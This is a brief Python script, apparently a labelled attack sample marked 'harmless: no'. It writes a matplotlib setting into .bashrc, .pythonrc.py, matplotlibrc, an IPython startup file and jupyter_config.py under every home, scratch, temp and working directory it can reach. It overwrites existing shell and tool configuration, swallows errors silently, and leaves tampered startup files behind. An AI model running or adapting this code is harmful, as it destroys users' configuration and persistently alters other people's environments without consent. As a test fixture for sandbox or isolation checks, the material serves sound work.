# attack: configurations of matplotlib, IPython and the shell are left in every home
# harmless: no
import os
import pathlib

import matplotlib

homes = {os.path.expanduser("~"), matplotlib.get_configdir(), matplotlib.get_cachedir()}
homes |= {"/root", "/home", "/scratch", "/scratch/home", os.getcwd(), "/tmp"}
names = (".config/matplotlib/matplotlibrc", "matplotlibrc", ".bashrc", ".pythonrc.py")
names += (".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py")
for home in homes:
    for name in names:
        try:
            path = pathlib.Path(home, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("lines.linewidth: 30\n")
        except OSError:
            pass
matplotlib.rcParams["lines.linewidth"] = 30
